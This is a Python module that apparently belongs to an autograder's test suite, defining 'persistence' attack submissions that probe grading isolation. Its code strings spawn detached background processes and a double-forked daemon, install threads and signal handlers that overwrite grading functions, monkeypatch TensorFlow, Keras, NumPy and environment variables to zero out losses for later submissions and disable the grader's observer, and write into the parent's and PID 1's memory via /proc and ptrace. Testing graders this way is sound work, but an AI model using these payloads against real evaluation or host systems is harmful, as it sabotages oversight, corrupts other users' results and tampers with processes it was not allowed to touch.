"""Persistence in processes: background jobs, threads, exit handlers, patches of shared modules."""

from __future__ import annotations

from .attack import Attack, cell, wrong_huber

BACKGROUND = """
    import subprocess
    import sys

    code = "import time\\ntime.sleep(1800) # @MARK@"
    for more in ({}, {"start_new_session": True}):
        try:
            subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.DEVNULL, **more)
        except OSError:
            pass
"""

DAEMON = """
    import os
    import time

    def daemon():
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in range(3):
            try:
                os.close(number)
            except OSError:
                pass
        try:
            import ctypes
            ctypes.CDLL(None).prctl(15, b"@MARK@"[:15], 0, 0, 0)
        except BaseException:
            pass
        end = time.time() + 1800
        while time.time() < end:
            time.sleep(5)
            try:
                open("@TMP@/@MARK@-daemon", "a").close()
            except OSError:
                pass
        os._exit(0)

    try:
        if os.fork() == 0:
            daemon()
    except OSError:
        pass
"""

THREADS = """
    import atexit
    import os
    import signal
    import threading
    import time

    def go_on():
        while True:
            time.sleep(1)
            for name in ("huber_fn", "check"):
                globals()[name] = lambda *arguments: 2.0
            try:
                open("@TMP@/@MARK@-thread", "a").close()
            except OSError:
                pass

    def at_the_end(*arguments):
        try:
            open("@TMP@/@MARK@-exit", "a").close()
            import subprocess
            import sys
            subprocess.Popen([sys.executable, "-c", "import time\\ntime.sleep(1800) # @MARK@"])
        except OSError:
            pass

    threading.Thread(target=go_on, daemon=True).start()
    threading.Thread(target=go_on, daemon=False).start()
    atexit.register(at_the_end)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGALRM, signal.SIGINT):
        try:
            signal.signal(number, at_the_end)
        except ValueError:
            pass
"""

# Only poison if it reaches another submission: the own honest part comes before.
MODULES = """
    import math
    import os

    import keras
    import numpy as np
    import tensorflow as tf

    def spoil():
        os.environ["TF_CPP_MIN_LOG_LEVEL"] = "0"
        os.environ["PYTHONSTARTUP"] = "@TMP@/@MARK@.py"
        os.environ["KERAS_BACKEND"] = "torch"
        os.environ["PATH"] = "@TMP@/@MARK@"
        tf.abs = tf.exp = tf.square = lambda x, *a, **k: x * 0.0
        tf.where = lambda *a, **k: a[-1] * 0.0
        keras.losses.Loss.__call__ = lambda self, *a, **k: tf.constant(0.0)
        math.pi = 3.0
        np.float32 = np.float64
        import autograder.observe
        autograder.observe.observe = None
"""

PARENT = """
    import os
    import signal

    def write_memory(process):
        try:
            with open(f"/proc/{process}/mem", "r+b", 0) as memory:
                memory.seek(0x10000)
                memory.write(b"@MARK@")
        except (OSError, ValueError):
            pass

    for process in (os.getppid(), 1):
        write_memory(process)
    try:
        import ctypes
        ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)
        ctypes.CDLL(None).ptrace(17, os.getppid(), 0, 0)
    except BaseException:
        pass
    for number in range(3, 64):
        try:
            os.write(number, b"\\x00\\x00\\x00\\x05final")
        except OSError:
            pass
"""

ATTACKS = (
    Attack(
        "persistence",
        "background-processes",
        "Starts processes in the background, one of them in a session of its own.",
        {"huber_fn": wrong_huber(defined=BACKGROUND)},
        last=cell(BACKGROUND),
    ),
    Attack(
        "persistence",
        "double-fork",
        "Forks twice with a new session, closes its streams and goes on writing files.",
        {"huber_fn": wrong_huber(defined=DAEMON)},
    ),
    Attack(
        "persistence",
        "threads-and-exit-handlers",
        "Leaves threads that redefine names, exit handlers and signal handlers.",
        {"huber_fn": wrong_huber(defined=THREADS)},
        may_lose="its signal handlers take the place of the time limit's",
    ),
    Attack(
        "persistence",
        "modules-patched",
        "Spoils TensorFlow, Keras, NumPy and the environment for whoever comes next.",
        {"huber_fn": wrong_huber(defined=MODULES)},
        last="spoil()",
        may_lose="it spoils TensorFlow in its own process first",
    ),
    Attack(
        "persistence",
        "parent-process",
        "Writes into its parent's memory, attaches to it and writes on every descriptor.",
        {"huber_fn": wrong_huber(PARENT)},
        safe_on_stock=False,
        may_lose="it writes on descriptors that its own answers leave by",
    ),
)
